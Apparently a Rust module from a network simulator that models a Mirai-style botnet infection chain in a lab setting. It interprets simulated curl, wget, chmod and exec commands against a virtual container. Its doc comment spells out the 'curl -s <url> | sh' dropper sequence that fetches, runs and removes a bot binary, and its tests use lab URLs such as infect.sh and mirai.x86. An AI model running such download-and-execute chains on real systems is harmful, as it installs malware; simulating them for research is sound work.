//! The shell interpreter: executes the infection chain's commands.
//!
//! The exploit payload runs `sh -c "curl -s <url> | sh"`; the downloaded
//! script then fetches the architecture-specific bot binary with `wget`,
//! `chmod +x`-es it, executes it, and removes it. [`ShellJob`] is the
//! application that interprets those commands against the container's
//! filesystem, process table, and the simulated network.

use crate::container::{ContainerEvent, ContainerHandle};
use crate::fs::{FileKind, LaunchEnv, ServedFile, ShellScript};
use crate::proc::Pid;
use netsim::{Application, Category, ConnId, Ctx, ForkClone, ForkMap, Payload, TcpEvent};
use protocols::{HttpRequest, HttpResponse, HTTP_PORT};
use std::collections::VecDeque;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

/// Overall wall-clock budget for one shell job.
const JOB_TIMEOUT: Duration = Duration::from_secs(60);
const TIMER_TIMEOUT: u64 = 1;

/// Parses `http://host[:port]/path` into (server, path). Hosts are IP
/// literals (v4, or v6 in brackets), as in the paper's lab network.
pub(crate) fn parse_url(url: &str) -> Option<(SocketAddr, String)> {
    let rest = url.strip_prefix("http://")?;
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], rest[i..].to_owned()),
        None => (rest, "/".to_owned()),
    };
    let (host, port) = if let Some(h) = authority.strip_prefix('[') {
        // [v6]:port or [v6]
        let close = h.find(']')?;
        let addr = h[..close].parse::<IpAddr>().ok()?;
        let port = match h[close + 1..].strip_prefix(':') {
            Some(p) => p.parse().ok()?,
            None => HTTP_PORT,
        };
        (addr, port)
    } else {
        match authority.rsplit_once(':') {
            Some((h, p)) => (h.parse().ok()?, p.parse().ok()?),
            None => (authority.parse().ok()?, HTTP_PORT),
        }
    };
    Some((SocketAddr::new(host, port), path))
}

#[derive(Debug, Clone)]
enum HttpTarget {
    PipeToSh,
    SaveTo(String),
}

#[derive(Debug, Clone)]
enum JobState {
    Idle,
    Http { conn: ConnId, target: HttpTarget },
    Done,
}

/// A running shell: a queue of command lines plus in-flight network state.
pub struct ShellJob {
    container: ContainerHandle,
    queue: VecDeque<String>,
    state: JobState,
    pid: Option<Pid>,
    /// Path of the in-flight HTTP request (set at connect, consumed on
    /// `Connected`).
    pending_path: Option<String>,
}

impl std::fmt::Debug for ShellJob {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ShellJob")
            .field("queued", &self.queue.len())
            .field("state", &self.state)
            .finish()
    }
}

impl ShellJob {
    /// Creates a job that will run a single command line (the exploit's
    /// `sh -c <command>`).
    pub fn command(container: ContainerHandle, command: impl Into<String>) -> Self {
        ShellJob {
            container,
            queue: VecDeque::from([command.into()]),
            state: JobState::Idle,
            pid: None,
            pending_path: None,
        }
    }

    /// Creates a job that runs a script's lines.
    pub fn script(container: ContainerHandle, script: &ShellScript) -> Self {
        ShellJob {
            container,
            queue: script.lines().iter().cloned().collect(),
            state: JobState::Idle,
            pid: None,
            pending_path: None,
        }
    }

    fn substitute(&self, line: &str) -> String {
        let arch = self.container.arch().suffix();
        line.replace("$ARCH", arch).replace("${ARCH}", arch)
    }

    fn finish(&mut self, ctx: &mut Ctx<'_>) {
        if let JobState::Http { conn, .. } = &self.state {
            ctx.tcp_close(*conn);
        }
        self.state = JobState::Done;
        if let Some(pid) = self.pid.take() {
            self.container.state_mut().procs.kill(pid);
        }
        ctx.exit();
    }

    fn have_command(&self, ctx: &mut Ctx<'_>, cmd: &str) -> bool {
        if self.container.state().commands.contains(cmd) {
            true
        } else {
            self.container.log(ContainerEvent::CommandMissing {
                time: ctx.now(),
                command: cmd.to_owned(),
            });
            false
        }
    }

    fn start_http(&mut self, ctx: &mut Ctx<'_>, url: &str, target: HttpTarget) -> bool {
        let Some((server, path)) = parse_url(url) else {
            return false;
        };
        let Ok(conn) = ctx.tcp_connect(server) else {
            return false;
        };
        // Stash the path in the target; the request is sent on Connected.
        self.state = JobState::Http { conn, target };
        self.pending_path = Some(path);
        true
    }

    fn proceed(&mut self, ctx: &mut Ctx<'_>) {
        loop {
            if matches!(self.state, JobState::Http { .. } | JobState::Done) {
                return;
            }
            let Some(raw) = self.queue.pop_front() else {
                self.finish(ctx);
                return;
            };
            let line = self.substitute(raw.trim());
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            self.container.log(ContainerEvent::CommandRun {
                time: ctx.now(),
                command: line.clone(),
            });
            ctx.record_event(Category::ShellExec, || format!("$ {line}"));
            if !self.run_line(ctx, &line) {
                self.finish(ctx);
                return;
            }
        }
    }

    /// Runs one command line; returns false to abort the job.
    fn run_line(&mut self, ctx: &mut Ctx<'_>, line: &str) -> bool {
        let tokens: Vec<&str> = line.split_whitespace().collect();
        let Some(&cmd) = tokens.first() else {
            return true;
        };
        match cmd {
            "curl" => {
                if !self.have_command(ctx, "curl") {
                    return false;
                }
                // `curl -s URL | sh`  or  `curl -s URL -o PATH`
                let url = tokens.iter().find(|t| t.starts_with("http://"));
                let Some(url) = url else { return false };
                if let Some(i) = tokens.iter().position(|t| *t == "-o") {
                    let Some(path) = tokens.get(i + 1) else {
                        return false;
                    };
                    self.start_http(ctx, url, HttpTarget::SaveTo((*path).to_owned()))
                } else if tokens.windows(2).any(|w| w == ["|", "sh"]) {
                    if !self.have_command(ctx, "sh") {
                        return false;
                    }
                    self.start_http(ctx, url, HttpTarget::PipeToSh)
                } else {
                    self.start_http(ctx, url, HttpTarget::PipeToSh)
                }
            }
            "wget" => {
                if !self.have_command(ctx, "wget") {
                    return false;
                }
                let url = tokens.iter().find(|t| t.starts_with("http://"));
                let Some(url) = url else { return false };
                let path = tokens
                    .iter()
                    .position(|t| *t == "-O")
                    .and_then(|i| tokens.get(i + 1))
                    .map(|p| (*p).to_owned());
                let Some(path) = path else { return false };
                self.start_http(ctx, url, HttpTarget::SaveTo(path))
            }
            "chmod" => {
                if !self.have_command(ctx, "chmod") {
                    return false;
                }
                let Some(path) = tokens.last().filter(|t| !t.starts_with('+')) else {
                    return false;
                };
                self.container.state_mut().fs.chmod_exec(path).is_ok()
            }
            "rm" => {
                if !self.have_command(ctx, "rm") {
                    return false;
                }
                if let Some(path) = tokens.iter().skip(1).find(|t| !t.starts_with('-')) {
                    self.container.state_mut().fs.remove(path);
                }
                true
            }
            "cd" | "export" | "ps" | "sleep" | "echo" => true,
            _ if cmd.starts_with('/') || cmd.starts_with("./") => self.exec_file(ctx, cmd),
            _ => {
                // Unknown command: record and abort (busybox would print
                // "not found").
                self.container.log(ContainerEvent::CommandMissing {
                    time: ctx.now(),
                    command: cmd.to_owned(),
                });
                false
            }
        }
    }

    fn exec_file(&mut self, ctx: &mut Ctx<'_>, path: &str) -> bool {
        let path = path.strip_prefix("./").unwrap_or(path);
        let resolved = {
            let state = self.container.state();
            match state.fs.resolve_executable(path) {
                Ok(entry) => entry.kind.clone(),
                Err(_) => return false,
            }
        };
        match resolved {
            FileKind::Script(script) => {
                for line in script.lines().iter().rev() {
                    self.queue.push_front(line.clone());
                }
                true
            }
            FileKind::Executable { arch, launcher } => {
                if arch != self.container.arch() {
                    // Exec format error: wrong architecture binary.
                    return false;
                }
                let basename = path.rsplit('/').next().unwrap_or(path).to_owned();
                let pid = self.container.register_proc(basename, None, vec![]);
                let env = LaunchEnv {
                    exec_path: path.to_owned(),
                    host_arch: arch,
                    pid,
                    container: self.container.clone(),
                };
                let app = launcher(ctx, env);
                let id = ctx.spawn_app(ctx.node_id(), app);
                self.container.state_mut().procs.set_app(pid, id);
                self.container.log(ContainerEvent::Executed {
                    time: ctx.now(),
                    path: path.to_owned(),
                });
                ctx.record_event(Category::CurlShStage, || {
                    format!("stage3: exec {path} ({})", arch.suffix())
                });
                true
            }
            FileKind::Data => false,
        }
    }

    fn handle_response(&mut self, ctx: &mut Ctx<'_>, resp: &HttpResponse) {
        let JobState::Http { conn, target } = &self.state else {
            return;
        };
        let conn = *conn;
        let target = target.clone();
        ctx.tcp_close(conn);
        self.state = JobState::Idle;
        if !resp.is_ok() {
            self.finish(ctx);
            return;
        }
        let Some(file) = resp.body.get::<ServedFile>() else {
            self.finish(ctx);
            return;
        };
        match target {
            HttpTarget::PipeToSh => {
                let FileKind::Script(script) = &file.entry.kind else {
                    self.finish(ctx);
                    return;
                };
                ctx.record_event(Category::CurlShStage, || {
                    format!("stage1: piped script to sh ({} lines)", script.lines().len())
                });
                for line in script.lines().iter().rev() {
                    self.queue.push_front(line.clone());
                }
            }
            HttpTarget::SaveTo(path) => {
                let mut entry = file.entry.clone();
                entry.executable = false; // downloads are not executable yet
                let bytes = entry.size_bytes;
                self.container.state_mut().fs.write(path.clone(), entry);
                ctx.record_event(Category::CurlShStage, || {
                    format!("stage2: downloaded {path} ({bytes}B)")
                });
                self.container.log(ContainerEvent::Downloaded {
                    time: ctx.now(),
                    path,
                    bytes,
                });
            }
        }
        self.proceed(ctx);
    }

    fn take_pending_path(&mut self) -> Option<String> {
        self.pending_path.take()
    }
}

impl Application for ShellJob {
    fn name(&self) -> &str {
        "sh"
    }

    fn fork(&self, map: &ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(ShellJob {
            container: self.container.fork_clone(map),
            queue: self.queue.clone(),
            state: self.state.clone(),
            pid: self.pid,
            pending_path: self.pending_path.clone(),
        }))
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.pid = Some(
            self.container
                .state_mut()
                .procs
                .register("sh", Some(ctx.app_id()), vec![]),
        );
        ctx.set_timer(JOB_TIMEOUT, TIMER_TIMEOUT);
        self.proceed(ctx);
    }

    fn on_tcp(&mut self, ctx: &mut Ctx<'_>, event: TcpEvent) {
        match event {
            TcpEvent::Connected { conn } => {
                if let JobState::Http { conn: c, .. } = &self.state {
                    if *c == conn {
                        if let Some(path) = self.take_pending_path() {
                            let req = HttpRequest::get(path);
                            let bytes = req.wire_size();
                            let _ = ctx.tcp_send(conn, Payload::new(req), bytes);
                        }
                    }
                }
            }
            TcpEvent::Data { conn, payload, .. } => {
                if let JobState::Http { conn: c, .. } = &self.state {
                    if *c == conn {
                        if let Some(resp) = payload.get::<HttpResponse>() {
                            let resp = resp.clone();
                            self.handle_response(ctx, &resp);
                        }
                    }
                }
            }
            TcpEvent::ConnectFailed { conn } | TcpEvent::Closed { conn } => {
                if let JobState::Http { conn: c, .. } = &self.state {
                    if *c == conn {
                        self.finish(ctx);
                    }
                }
            }
            TcpEvent::Incoming { .. } => {}
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if token == TIMER_TIMEOUT && !matches!(self.state, JobState::Done) {
            self.finish(ctx);
        }
    }

    fn on_node_down(&mut self, ctx: &mut Ctx<'_>) {
        // The device lost power mid-infection: the job dies.
        self.finish(ctx);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_url_v4_default_port() {
        let (sa, path) = parse_url("http://10.0.0.2/infect.sh").expect("parses");
        assert_eq!(sa, "10.0.0.2:80".parse().expect("sockaddr"));
        assert_eq!(path, "/infect.sh");
    }

    #[test]
    fn parse_url_v4_explicit_port() {
        let (sa, path) = parse_url("http://10.0.0.2:8080/a/b").expect("parses");
        assert_eq!(sa.port(), 8080);
        assert_eq!(path, "/a/b");
    }

    #[test]
    fn parse_url_v6() {
        let (sa, path) = parse_url("http://[fd00::2]/bins/mirai.x86").expect("parses");
        assert!(sa.ip().is_ipv6());
        assert_eq!(sa.port(), 80);
        assert_eq!(path, "/bins/mirai.x86");
        let (sa, _) = parse_url("http://[fd00::2]:81/x").expect("parses");
        assert_eq!(sa.port(), 81);
    }

    #[test]
    fn parse_url_rejects_garbage() {
        assert!(parse_url("ftp://10.0.0.2/x").is_none());
        assert!(parse_url("http://not-an-ip/x").is_none());
    }

    #[test]
    fn parse_url_bare_host() {
        let (sa, path) = parse_url("http://10.0.0.9").expect("parses");
        assert_eq!(sa.port(), 80);
        assert_eq!(path, "/");
    }
}
